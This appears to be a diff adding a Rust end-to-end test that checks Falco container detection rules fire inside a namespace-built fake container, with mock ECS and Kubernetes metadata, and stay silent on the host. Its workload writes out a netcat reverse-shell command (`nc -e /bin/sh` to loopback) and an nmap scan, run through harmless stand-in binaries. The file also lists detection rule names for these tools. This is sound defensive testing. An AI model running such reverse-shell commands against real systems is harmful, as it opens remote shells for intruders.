@@ -1,0 +1,331 @@
+//! capture as a container's entrypoint, in a container the test builds
+//! itself with `unshare` (mount, cgroup, UTS and PID namespaces): the
+//! cgroup namespace shows `0::/`, so the id comes from the runtime's
+//! bind-mounted `/etc/hostname` under a Docker-like
+//! `.../containers/<64 hex>/hostname`; a loopback server serves ECS task
+//! metadata v4. Falco's container rules must fire there, and the same
+//! actions on the host must raise none of them.
+
+use std::io::{BufRead, BufReader};
+use std::process::{Child, Command, Stdio};
+
+use e2e_tests::capture_support::*;
+use e2e_tests::replay_support::*;
+
+const ID: &str = "3601745b3bd54d9780436faa5f0e4f72bb46231663bb99a6bb892764917832c2";
+
+/// The container rules the workload below triggers.
+const CONTAINER_RULES: [&str; 4] = [
+    "Launch Excessively Capable Container",
+    "Netcat Remote Code Execution in Container",
+    "Launch Package Management Process in Container",
+    "Launch Suspicious Network Tool in Container",
+];
+
+/// A loopback HTTP server answering the ECS task metadata v4 container
+/// and task documents (real-shaped, ids made up); killed on drop.
+struct EcsServer {
+    child: Child,
+    port: u16,
+}
+
+const ECS_SERVER: &str = r#"
+import http.server, json, sys
+container = {"DockerId": "ID", "Name": "web", "DockerName": "ecs-web-3-web-9a8b",
+  "Image": "public.ecr.aws/nginx/nginx:1.27", "ImageID": "sha256:5a0f1b",
+  "Labels": {"com.amazonaws.ecs.cluster": "prod", "com.amazonaws.ecs.container-name": "web",
+    "com.amazonaws.ecs.task-arn": "arn:aws:ecs:eu-west-1:111122223333:task/prod/0f1e2d3c4b5a69788796a5b4c3d2e1f0",
+    "com.amazonaws.ecs.task-definition-family": "web", "com.amazonaws.ecs.task-definition-version": "3"},
+  "DesiredStatus": "RUNNING", "KnownStatus": "RUNNING", "Type": "NORMAL"}
+task = {"Cluster": "arn:aws:ecs:eu-west-1:111122223333:cluster/prod",
+  "TaskARN": "arn:aws:ecs:eu-west-1:111122223333:task/prod/0f1e2d3c4b5a69788796a5b4c3d2e1f0",
+  "Family": "web", "Revision": "3", "DesiredStatus": "RUNNING", "KnownStatus": "RUNNING",
+  "AvailabilityZone": "eu-west-1a", "LaunchType": "EC2", "Containers": [container]}
+class H(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        doc = task if self.path.endswith("/task") else container
+        body = json.dumps(doc).encode()
+        self.send_response(200)
+        self.send_header("Content-Type", "application/json")
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+    def log_message(self, *a):
+        pass
+s = http.server.HTTPServer(("127.0.0.1", 0), H)
+print(s.server_address[1], flush=True)
+s.serve_forever()
+"#;
+
+impl EcsServer {
+    fn start() -> EcsServer {
+        let mut child = Command::new("python3")
+            .args(["-c", &ECS_SERVER.replace("\"ID\"", &format!("\"{ID}\""))])
+            .stdout(Stdio::piped())
+            .stderr(Stdio::inherit())
+            .spawn()
+            .unwrap_or_else(|e| panic!("python3: {e}"));
+        let mut line = String::new();
+        let out = child.stdout.take().unwrap();
+        BufReader::new(out).read_line(&mut line).unwrap();
+        let port = line
+            .trim()
+            .parse()
+            .unwrap_or_else(|e| panic!("port {line:?}: {e}"));
+        EcsServer { child, port }
+    }
+
+    fn uri(&self) -> String {
+        format!("http://127.0.0.1:{}/v4/0f1e2d3c-web", self.port)
+    }
+}
+
+impl Drop for EcsServer {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+/// Tools named as the rules know them (copies of `true`: the rules look
+/// at names and arguments, not at what the tools do).
+fn tools(w: &Work) -> String {
+    for name in ["nc", "dpkg", "nmap"] {
+        std::fs::copy("/bin/true", w.path(name)).unwrap();
+    }
+    let d = w.path("").display().to_string();
+    format!("{d}/nc -e /bin/sh 127.0.0.1 9; {d}/dpkg -l; {d}/nmap -sn 127.0.0.1")
+}
+
+fn can_unshare() -> bool {
+    let ok = Command::new("unshare")
+        .args(["-m", "-C", "-u", "-p", "-f", "--mount-proc", "true"])
+        .status()
+        .is_ok_and(|s| s.success());
+    if !ok {
+        assert!(
+            std::env::var_os("CI").is_none(),
+            "unshare of mount, cgroup, UTS and PID namespaces fails under CI"
+        );
+        eprintln!("skipped: cannot unshare namespaces");
+    }
+    ok
+}
+
+/// Runs `SETUP` then `exec capture -q -o TRACE EXTRA -- sh -c WORKLOAD`
+/// under `unshare FLAGS`, with `ENV` set.
+fn capture_unshared(
+    w: &Work,
+    flags: &[&str],
+    setup: &str,
+    extra: &str,
+    workload: &str,
+    env: &[(&str, String)],
+) {
+    let script = format!(
+        "set -e\nmount --make-rprivate /\n{setup}\nexec '{cap}' -q -o '{trace}' {extra} -- sh -c \"$WORKLOAD\"\n",
+        cap = capture_bin().display(),
+        trace = w.trace_path().display(),
+    );
+    let mut c = Command::new("unshare");
+    c.args(flags)
+        .args(["sh", "-c", &script])
+        .env("WORKLOAD", workload)
+        .env_remove("ECS_CONTAINER_METADATA_URI_V4")
+        .env_remove("HOSTNAME")
+        .env_remove("POD_NAME")
+        .env_remove("MY_POD_NAME");
+    for (k, v) in env {
+        c.env(k, v);
+    }
+    let out = e2e_tests::run_with_timeout(&mut c, LIMIT);
+    assert!(
+        out.status.success(),
+        "capture under unshare: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+const CONTAINER: [&str; 6] = ["-m", "-C", "-u", "-p", "-f", "--mount-proc"];
+
+/// A Docker-like runtime directory on a tmpfs, its hostname file bound
+/// over `/etc/hostname`, and the UTS name set.
+fn docker_setup(w: &Work, hostname: &str) -> String {
+    let rt = w.path("docker");
+    std::fs::create_dir_all(&rt).unwrap();
+    let rt = rt.display();
+    format!(
+        "mount -t tmpfs tmpfs '{rt}'\n\
+         mkdir -p '{rt}/containers/{ID}'\n\
+         echo {hostname} > '{rt}/containers/{ID}/hostname'\n\
+         mount --bind '{rt}/containers/{ID}/hostname' /etc/hostname\n\
+         hostname {hostname}"
+    )
+}
+
+/// Not a container, whatever runs the test: a new cgroup namespace (`0::/`)
+/// and plain files over the runtime's `/etc` files.
+fn host_setup(w: &Work) -> String {
+    let plain = w.path("plain");
+    std::fs::write(&plain, "host\n").unwrap();
+    let p = plain.display();
+    format!(
+        "for f in /etc/hostname /etc/hosts /etc/resolv.conf; do \
+         if [ -e $f ]; then mount --bind '{p}' $f; fi; done"
+    )
+}
+
+#[test]
+fn container_rules_fire_in_a_container_and_not_on_the_host() {
+    if !ptrace_permitted() || !e2e_tests::require("python3") || !can_unshare() {
+        return;
+    }
+    let w = Work::new();
+    let workload = tools(&w);
+    let ecs = EcsServer::start();
+    capture_unshared(
+        &w,
+        &CONTAINER,
+        &docker_setup(&w, "web-ctr"),
+        "",
+        &workload,
+        &[("ECS_CONTAINER_METADATA_URI_V4", ecs.uri())],
+    );
+    let t = w.trace();
+    assert_eq!(t.meta.container_id, ID);
+    assert_eq!(t.meta.container_id_source, "mountinfo");
+    assert_eq!(t.meta.hostname, "web-ctr");
+    let e = t.meta.ecs.clone().unwrap_or_default();
+    assert_eq!(
+        (e.container_name.as_str(), e.task_family.as_str()),
+        ("web", "web")
+    );
+    assert_eq!(e.docker_id, ID);
+
+    let (found, out) = alerts(&w.trace_path(), &["--rule-matching", "all", "-q"]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    for rule in CONTAINER_RULES {
+        let a = found
+            .iter()
+            .find(|a| a["rule"] == rule)
+            .unwrap_or_else(|| panic!("`{rule}` did not fire: {:?}", rule_names(&found)));
+        let f = &a["output_fields"];
+        assert_eq!(f["container.id"], &ID[..12]);
+        assert_eq!(f["container.name"], "web");
+        assert_eq!(
+            f["container.image.repository"],
+            "public.ecr.aws/nginx/nginx"
+        );
+        assert_eq!(f["container.image.tag"], "1.27");
+        assert_eq!(f["k8s.pod.name"], serde_json::Value::Null);
+        let text = a["output"].as_str().unwrap_or("");
+        assert!(
+            text.ends_with(&format!(
+                " container_id={} container_name=web container_image_repository=public.ecr.aws/nginx/nginx container_image_tag=1.27 k8s_pod_name=<NA> k8s_ns_name=<NA>",
+                &ID[..12]
+            )),
+            "{text}"
+        );
+    }
+    // capture is the container's PID 1: the workload's exec is the
+    // container's start, evaluated once, with the container's facts (root
+    // here: CAP_SYS_ADMIN and the like, so excessively capable).
+    let started: Vec<_> = found
+        .iter()
+        .filter(|a| a["rule"] == "Launch Excessively Capable Container")
+        .collect();
+    assert_eq!(started.len(), 1, "{:?}", rule_names(&found));
+    assert_eq!(started[0]["output_fields"]["proc.name"], "sh");
+    // Privileged means every capability the kernel has; whether the test
+    // runs with all of them depends on the machine.
+    assert_eq!(
+        found
+            .iter()
+            .any(|a| a["rule"] == "Launch Privileged Container"),
+        t.meta.container_privileged
+    );
+    // --no-suggested-output: the rule's own output only.
+    let (plain, _) = alerts(
+        &w.trace_path(),
+        &["--rule-matching", "all", "-q", "--no-suggested-output"],
+    );
+    assert_eq!(plain.len(), found.len());
+    assert!(
+        plain
+            .iter()
+            .all(|a| !a["output"].as_str().unwrap_or("").contains("container_id="))
+    );
+
+    // The same actions on the host: none of the container rules.
+    let host = Work::new();
+    let workload = tools(&host);
+    capture_unshared(&host, &["-m", "-C"], &host_setup(&host), "", &workload, &[]);
+    assert_eq!(host.trace().meta.container_id, "");
+    let (on_host, _) = alerts(&host.trace_path(), &["--rule-matching", "all", "-q"]);
+    let names = rule_names(&on_host);
+    for rule in CONTAINER_RULES {
+        assert!(
+            !names.iter().any(|n| n == rule),
+            "{rule} on the host: {names:?}"
+        );
+    }
+    assert!(
+        on_host
+            .iter()
+            .all(|a| a["output_fields"]["container.id"] == "host"),
+        "{on_host:?}"
+    );
+}
+
+#[test]
+fn container_id_override_and_a_kubernetes_pod() {
+    if !ptrace_permitted() || !can_unshare() {
+        return;
+    }
+    let w = Work::new();
+    let sa = w.path("sa");
+    std::fs::create_dir_all(&sa).unwrap();
+    std::fs::write(sa.join("namespace"), "payments\n").unwrap();
+    std::fs::copy("/bin/true", w.path("nc")).unwrap();
+    let workload = format!("{} -e /bin/sh 127.0.0.1 9", w.path("nc").display());
+    // The service account directory where kubelet mounts it (/var/run is
+    // /run or holds it); a pod's hostname is its name.
+    let setup = format!(
+        "mount -t tmpfs tmpfs /run\n\
+         mkdir -p /var/run/secrets/kubernetes.io/serviceaccount\n\
+         mount --bind '{}' /var/run/secrets/kubernetes.io/serviceaccount\n\
+         hostname web-5d8f-abcde",
+        sa.display()
+    );
+    capture_unshared(
+        &w,
+        &CONTAINER,
+        &setup,
+        "--container-id my-container-id",
+        &workload,
+        &[],
+    );
+    let t = w.trace();
+    assert_eq!(t.meta.container_id, "my-container-id");
+    assert_eq!(t.meta.container_id_source, "override");
+    let k = t.meta.kubernetes.clone().unwrap_or_default();
+    assert_eq!(k.namespace, "payments");
+    assert_eq!(k.pod_name, "web-5d8f-abcde");
+    let (found, out) = alerts(&w.trace_path(), &["-q"]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let a = found
+        .iter()
+        .find(|a| a["rule"] == "Netcat Remote Code Execution in Container")
+        .unwrap_or_else(|| panic!("{:?}", rule_names(&found)));
+    assert_eq!(a["output_fields"]["k8s.ns.name"], "payments");
+    assert_eq!(a["output_fields"]["k8s.pod.name"], "web-5d8f-abcde");
+    assert_eq!(a["output_fields"]["container.id"], "my-container");
+}
